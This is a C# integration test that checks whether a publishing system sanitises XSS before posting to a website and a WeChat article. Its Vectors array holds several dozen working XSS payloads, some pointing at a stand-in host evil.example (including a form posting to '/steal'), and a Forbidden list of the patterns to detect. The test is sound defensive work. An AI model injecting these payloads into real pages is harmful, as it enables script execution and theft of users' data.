using System.Net;
using System.Net.Http.Json;
using System.Text.Json;
using Channels.Publishing.Channels.WeChat;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.Options;

namespace Channels.IntegrationTests.Hostile;

/// <summary>
/// Script in an item's body is not a reason to refuse it: the body is sanitised. A body full of classic XSS
/// vectors is published, and neither the website page nor the WeChat article carries any of them, while the
/// harmless text and markup around them survive.
/// </summary>
[Collection(ChannelsCollection.Name)]
public class XssTests(ChannelsHost host)
{
    static readonly string[] Vectors =
    [
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<img src=\"x\" ONERROR=\"alert(1)\">",
        "<svg onload=alert(1)><circle r=1 /></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<a href=\"javascript:alert(1)\">链接一</a>",
        "<a href=\" JaVaScRiPt:alert(1)\">链接二</a>",
        "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">链接三</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">链接四</a>",
        "<a href=\"vbscript:msgbox(1)\">链接五</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">链接六</a>",
        "<img src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
        "<iframe src=\"https://evil.example/\"></iframe>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<object data=\"https://evil.example/x.swf\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<div style=\"width: expression(alert(1))\">样式</div>",
        "<style>@import 'https://evil.example/x.css'; body{background:url(javascript:alert(1))}</style>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<form action=\"https://evil.example/steal\"><input name=p><button formaction=\"javascript:alert(1)\">提交</button></form>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        "<details open ontoggle=alert(1)>细节</details>",
        "<p onclick=\"alert(1)\" onmouseover=\"alert(1)\">段落</p>",
        "<body onload=alert(1)>",
        "<link rel=stylesheet href=\"javascript:alert(1)\">",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
        "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
        "<table background=\"javascript:alert(1)\"><tr><td>表格</td></tr></table>",
        "<video><source onerror=\"alert(1)\"></video>",

        // Last: the parser takes "scr<script" for an element that is never closed, so everything after it goes with it.
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
    ];

    /// <summary>What none of the published forms may contain (compared case-insensitively).</summary>
    static readonly string[] Forbidden =
    [
        "<script", "</script", "onerror", "onload", "onclick", "onmouseover", "ontoggle", "javascript:", "vbscript:", "data:",
        "&#106;", "<iframe", "srcdoc", "<object", "<embed", "expression(", "<style", "<meta", "<base", "<form", "formaction",
        "<input", "<button", "<math", "<svg", "xlink:href", "<link", "<noscript", "evil.example", "style=",
    ];

    /// <summary>Harmless content that must come through.</summary>
    static readonly string[] Survivors =
    [
        "<p>第一段：入汛以来降雨偏多，请各街道做好防汛准备。</p>",
        "<strong>值班电话：84683088</strong>",
        "<a href=\"https://www.furong.gov.cn/\">芙蓉区人民政府网</a>",
        "链接一", "链接三", "段落", "表格",
    ];

    [Fact]
    public async Task BodyFullOfXss_Accepted_PageAndWeChatArticleCarryNoneOfIt_TextSurvives()
    {
        var body = $"{Survivors[0]}<p>{Survivors[1]}</p><p>{Survivors[2]}</p>\n{string.Join("\n", Vectors)}";
        var item = Items.Approved("xss") with { Channels = ["website", "wechat"], Body = body, Summary = "请各街道做好防汛准备。" };

        Assert.Equal(HttpStatusCode.Accepted, (await host.PostAsync(item)).StatusCode);
        var view = await host.WaitFinalAsync(item.Id);
        Assert.Equal("delivered", view.GetProperty("status").GetString());

        var page = await host.Api.GetStringAsync($"/site/items/{item.Id}.html");
        var start = page.IndexOf("<div class=\"body\">", StringComparison.Ordinal);
        var end = page.IndexOf("</article>", start, StringComparison.Ordinal);
        AssertClean("website page body", page[start..end]);
        AssertClean("website page", page, ["<script", "javascript:", "onerror", "onload", "<iframe", "<object", "<embed", "<base", "<form"]);

        var articleId = view.GetProperty("channels").EnumerateArray()
            .Single(c => c.GetProperty("channel").GetString() == "wechat").GetProperty("platformId").GetString()!;
        AssertClean("WeChat article", await WeChatContentAsync(articleId));
    }

    static void AssertClean(string what, string html, IEnumerable<string>? forbidden = null)
    {
        foreach (var f in forbidden ?? Forbidden) Assert.False(html.Contains(f, StringComparison.OrdinalIgnoreCase), $"{what} contains “{f}”: {html}");
        if (forbidden is not null) return;
        foreach (var s in Survivors) Assert.True(html.Contains(s, StringComparison.Ordinal), $"{what} lost “{s}”: {html}");
    }

    /// <summary>The article as the WeChat sandbox holds it (freepublish/getarticle), with the host's own access token.</summary>
    async Task<string> WeChatContentAsync(string articleId)
    {
        var options = host.Services.GetRequiredService<IOptions<WeChatOptions>>().Value;
        using var wechat = new HttpClient { BaseAddress = new Uri(options.BaseUrl) };
        var token = await host.Services.GetRequiredService<WeChatTokenCache>().GetAsync(wechat, CancellationToken.None);
        using var response = await wechat.PostAsJsonAsync($"cgi-bin/freepublish/getarticle?access_token={token}", new { article_id = articleId });
        var json = await response.Content.ReadFromJsonAsync<JsonElement>();
        return Assert.Single(json.GetProperty("news_item").EnumerateArray()).GetProperty("content").GetString()!;
    }
}
